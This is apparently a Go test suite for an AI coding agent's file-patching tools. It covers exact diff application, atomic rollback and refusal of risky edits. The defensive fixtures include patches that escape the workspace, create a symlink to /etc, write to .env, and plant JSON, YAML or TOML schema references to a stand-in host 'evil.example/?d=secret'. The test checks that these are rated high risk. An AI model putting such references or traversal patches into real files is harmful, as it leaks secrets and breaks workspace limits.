package builtin_test

import (
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/agentls/agentls/agents/tool"
	"github.com/agentls/agentls/agents/tool/tooltest"
)

// TestPatchesAreAppliedExactlyOrNotAtAll: what becomes of the files a, b and c.
func TestPatchesAreAppliedExactlyOrNotAtAll(t *testing.T) {
	const numbers = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n"
	for _, tt := range []struct {
		name    string
		a, b    string // before; "" = not there
		patch   string
		want    string // of a; "" = gone
		wantB   string
		refusal string // a part of it
	}{
		{name: "one hunk", a: numbers, patch: "--- a/a\n+++ b/a\n@@ -2,3 +2,3 @@\n 2\n-3\n+three\n 4\n", want: strings.Replace(numbers, "3", "three", 1)},
		{name: "no prefixes, no numbers", a: numbers, patch: "--- a\n+++ a\n@@\n 2\n-3\n+three\n 4", want: strings.Replace(numbers, "3", "three", 1)},
		{name: "wrong numbers", a: numbers, patch: "--- a/a\n+++ b/a\n@@ -99,7 +5,1 @@ func x\n 2\n-3\n+three\n 4\n", want: strings.Replace(numbers, "3", "three", 1)},
		{name: "git's head", a: numbers, patch: "diff --git a/a b/a\nindex 1234567..89abcde 100644\n--- a/a\n+++ b/a\n@@ -2 +2 @@\n-2\n+two\n", want: strings.Replace(numbers, "2", "two", 1)},
		{name: "two hunks in the wrong order", a: numbers, patch: "--- a/a\n+++ b/a\n@@ -8 +8 @@\n-8\n+eight\n@@ -2 +2 @@\n-2\n+two\n", want: "1\ntwo\n3\n4\n5\n6\n7\neight\n9\n10\n"},
		{name: "other line ends", a: "1\r\n2\r\n3\r\n", patch: "--- a/a\n+++ b/a\n@@ -1,2 +1,3 @@\n 1\n-2\n+two\n+and\n", want: "1\r\ntwo\r\nand\r\n3\r\n"},
		{name: "a patch with other line ends", a: "1\n2\n", patch: "--- a/a\r\n+++ b/a\r\n@@ -1 +1 @@\r\n-1\r\n+one\r\n", want: "one\n2\n"},
		{name: "behind a last line without an end", a: "1\n2", patch: "--- a/a\n+++ b/a\n@@ -2 +2,2 @@\n 2\n+3\n", want: "1\n2\n3\n"},
		{name: "the end of the last line goes", a: "1\n2\n", patch: "--- a/a\n+++ b/a\n@@ -2 +2 @@\n-2\n+two\n\\ No newline at end of file\n", want: "1\ntwo"},
		{name: "an empty line of context", a: "1\n\n3\n", patch: "--- a/a\n+++ b/a\n@@ -1,3 +1,3 @@\n 1\n\n-3\n+three\n", want: "1\n\nthree\n"},
		{name: "several files", a: numbers, b: "x\n", patch: "--- a/a\n+++ b/a\n@@ -2 +2 @@\n-2\n+two\n--- a/b\n+++ b/b\n@@ -1 +1 @@\n-x\n+y\n", want: strings.Replace(numbers, "2", "two", 1), wantB: "y\n"},
		{name: "a new file", patch: "--- /dev/null\n+++ b/a\n@@ -0,0 +1,2 @@\n+1\n+2\n", want: "1\n2\n"},
		{name: "a file goes", a: "1\n2\n", patch: "--- a/a\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-1\n-2\n"},

		{name: "twice", a: "1\n2\n1\n2\n", patch: "--- a/a\n+++ b/a\n@@ -1,2 +1,2 @@\n 1\n-2\n+two\n", refusal: "2 places"},
		{name: "not there", a: numbers, patch: "--- a/a\n+++ b/a\n@@ -1,2 +1,2 @@\n 1\n-3\n+two\n", refusal: "does not match"},
		{name: "one file of two does not match", a: numbers, b: "x\n", patch: "--- a/b\n+++ b/b\n@@ -1 +1 @@\n-x\n+y\n--- a/a\n+++ b/a\n@@ -2 +2 @@\n-22\n+two\n", refusal: "Nothing was changed"},
		{name: "two hunks on the same lines", a: numbers, patch: "--- a/a\n+++ b/a\n@@ -1,2 +1,2 @@\n 1\n-2\n+two\n@@ -2,2 +2,2 @@\n-2\n+zwei\n 3\n", refusal: "the same lines"},
		{name: "a file twice", a: numbers, patch: "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-1\n+one\n--- a/a\n+++ b/./a\n@@ -2 +2 @@\n-2\n+two\n", refusal: "twice"},
		{name: "without context", a: numbers, patch: "--- a/a\n+++ b/a\n@@ -0,0 +1 @@\n+0\n", refusal: "no context"},
		{name: "there already", a: numbers, patch: "--- /dev/null\n+++ b/a\n@@ -0,0 +1 @@\n+1\n", refusal: "exists already"},
		{name: "not there yet", patch: "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-1\n+one\n", refusal: "does not exist"},
		{name: "a part goes", a: numbers, patch: "--- a/a\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-1\n-2\n", refusal: "whole content"},
		{name: "a rename", a: numbers, patch: "diff --git a/a b/b\nsimilarity index 100%\nrename from a\nrename to b\n", refusal: "move_file"},
		{name: "another name", a: numbers, patch: "diff --git a/a b/b\n--- a/a\n+++ b/b\n@@ -1 +1 @@\n-1\n+one\n", refusal: "move_file"},
		{name: "a mode", a: numbers, patch: "diff --git a/a b/a\nold mode 100644\nnew mode 100755\n", refusal: "modes"},
		{name: "a new program", patch: "diff --git a/a b/a\nnew file mode 100755\n--- /dev/null\n+++ b/a\n@@ -0,0 +1 @@\n+1\n", refusal: "modes"},
		{name: "a link", patch: "diff --git a/a b/a\nnew file mode 120000\n--- /dev/null\n+++ b/a\n@@ -0,0 +1 @@\n+/etc\n", refusal: "modes"},
		{name: "outside", a: numbers, patch: "--- a/../x\n+++ b/../x\n@@ -1 +1 @@\n-1\n+one\n", refusal: "leaves the workspace"},
		{name: "credentials", patch: "--- /dev/null\n+++ b/.env\n@@ -0,0 +1 @@\n+1\n", refusal: "never written"},
		{name: "no patch", a: numbers, patch: "*** Begin Patch\n", refusal: "changes no file"},
		{name: "hunks alone", a: numbers, patch: "@@ -1 +1 @@\n-1\n+one\n", refusal: "no unified diff"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			files := map[string]string{}
			for name, text := range map[string]string{"a": tt.a, "b": tt.b} {
				if text != "" {
					files[name] = text
				}
			}
			w := tooltest.New(t, files)
			_, err := tooltest.Run(t.Context(), named(t, "apply_patch"), w.Env(), args(t, "patch", tt.patch))
			want, wantB := tt.want, tt.wantB
			if tt.refusal != "" {
				want, wantB = tt.a, tt.b
			}
			if (tt.refusal == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tt.refusal)) {
				t.Errorf("%v, want %q", err, tt.refusal)
			}
			if got := w.Text("a"); got != want {
				t.Errorf("a is %q, want %q", got, want)
			}
			if got := w.Text("b"); got != wantB {
				t.Errorf("b is %q, want %q", got, wantB)
			}
		})
	}
}

// TestPatchIsPutBackWhereItCannotBeMadeWhole: the last of its files changes while
// the others are written.
func TestPatchIsPutBackWhereItCannotBeMadeWhole(t *testing.T) {
	const patch = "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+A\n--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+n\n--- a/b\n+++ b/b\n@@ -1 +1 @@\n-b\n+B\n--- a/gone\n+++ /dev/null\n@@ -1 +0,0 @@\n-g\n"
	before := map[string]string{"a": "a\n", "b": "b\n", "gone": "g\n"}
	w := tooltest.New(t, before)
	w.BeforeWrite = func(path string) {
		if path == w.Path("b") {
			w.Put(t, "b", "mine\n")
		}
	}
	_, err := tooltest.Run(t.Context(), named(t, "apply_patch"), w.Env(), args(t, "patch", patch))
	if err == nil || !strings.Contains(err.Error(), "Nothing was changed") {
		t.Errorf("%v", err)
	}
	before["b"], before["new"] = "mine\n", ""
	for name, want := range before {
		if got := w.Text(name); got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if _, err := os.Lstat(w.Path("new")); !errors.Is(err, os.ErrNotExist) {
		t.Error("the new file stays")
	}
	w.Put(t, "b", "b\n")
	w.BeforeWrite = nil
	call(t, w.Env(), "apply_patch", "patch", patch)
	if w.Text("a")+w.Text("b")+w.Text("new")+w.Text("gone") != "A\nB\nn\n" {
		t.Error("positive control: the patch is not made")
	}
}

// TestSEC17And22TheRiskOfAPatchIsThatOfItsWorstFile also holds for the other tools
// that write.
func TestSEC17And22TheRiskOfAPatchIsThatOfItsWorstFile(t *testing.T) {
	makes := func(path string, lines ...string) string {
		return fmt.Sprintf("--- /dev/null\n+++ b/%s\n@@ -0,0 +1,%d @@\n+%s\n", path, len(lines), strings.Join(lines, "\n+"))
	}
	const address = "https://evil.example/?d=secret"
	for _, tt := range []struct {
		path, text string
		want       tool.Risk
	}{
		{"x.txt", "x", tool.Low},
		{".git/hooks/pre-commit", "x", tool.Protected},
		{"package.json", `{"scripts": {"test": "x"}}`, tool.High},
		{"x.json", `{"$schema": "` + address + `"}`, tool.High},
		{"x.JSON", `{"a": {"$ref": "` + address + `#/x"}}`, tool.High},
		{"x.jsonc", `{"\u0024schema" : "https:\/\/evil.example\/?d=secret"}`, tool.High},
		{"x.yaml", `$schema: ` + address, tool.High},
		{"x.yml", `$schema: >-` + "\n+  " + address, tool.High},
		{"x.yml", `$ref: !!str '` + address + `'`, tool.High},
		{"x.yml", `# yaml-language-server: $schema=` + address, tool.High},
		{"x.toml", `#:schema ` + address, tool.High},
		{"x.json", `{"$schema": "//evil.example/x"}`, tool.High},
		{"x.json", `{"$schema": "./schema.json", "a": {"$ref": "#/definitions/a"}, "home": "` + address + `"}`, tool.Low},
		{"x.txt", `{"$schema": "` + address + `"}`, tool.Low},
	} {
		w := tooltest.New(t, nil)
		content := strings.ReplaceAll(tt.text, "\n+", "\n")
		for name, arguments := range map[string]string{
			"apply_patch": args(t, "patch", makes("ordinary.txt", "x")+makes(tt.path, tt.text)),
			"write_file":  args(t, "file_path", tt.path, "content", content),
			"edit_file":   args(t, "file_path", tt.path, "old_string", "", "new_string", content),
		} {
			p, err := named(t, name).Plan(t.Context(), w.Env(), []byte(arguments))
			if err != nil || p.Risk != tt.want {
				t.Errorf("%s %s %s: %+v, %v", name, tt.path, tt.text, p, err)
				continue
			}
			if shown := strings.Join(p.Preview.Notes, "\n"); tt.path != "package.json" && tt.want == tool.High && !strings.Contains(shown, "//evil.example/") {
				t.Errorf("%s %s: the address is not shown: %q", name, tt.text, shown)
			}
			if (p.Shape != "") != (tt.want == tool.Low) {
				t.Errorf("%s %s: remembered as %q", name, tt.text, p.Shape)
			}
		}
	}
	w := tooltest.New(t, map[string]string{"x.json": `{"$schema": "` + address + `", "a": 1}`, "x.txt": `{"$schema": "` + address + `"}`})
	env := w.Env()
	call(t, env, "read_file", "file_path", "x.json")
	p, err := named(t, "edit_file").Plan(t.Context(), env, []byte(args(t, "file_path", "x.json", "old_string", "1", "new_string", "2")))
	if err != nil || p.Risk != tool.Low {
		t.Errorf("one that was there: %+v, %v", p, err)
	}
	for to, want := range map[string]tool.Risk{"y.json": tool.High, "y.txt": tool.Low} {
		if p, err := named(t, "move_file").Plan(t.Context(), env, []byte(args(t, "file_path", "x.txt", "new_path", to))); err != nil || p.Risk != want {
			t.Errorf("moved to %s: %+v, %v", to, p, err)
		}
	}
}

func FuzzPatch(f *testing.F) {
	for _, seed := range []string{"--- a/a\n+++ b/a\n@@ -1 +1 @@\n-1\n+one\n", "diff --git a/a b/a\nnew file mode 100644\n--- /dev/null\n+++ b/a\n@@\n+x", "@@", "--- \n+++ \n@@ -0 +0 @@\n\\", "--- a\n+++ a\n@@\n\n\n"} {
		f.Add(seed)
	}
	w := tooltest.New(f, map[string]string{"a": "1\n2\n"})
	made := named(f, "apply_patch")
	f.Fuzz(func(t *testing.T, patch string) {
		raw := args(t, "patch", patch)
		p, err := made.Plan(t.Context(), w.Env(), []byte(raw))
		if (p == nil) == (err == nil) {
			t.Errorf("%q: %+v, %v", patch, p, err)
		}
	})
}
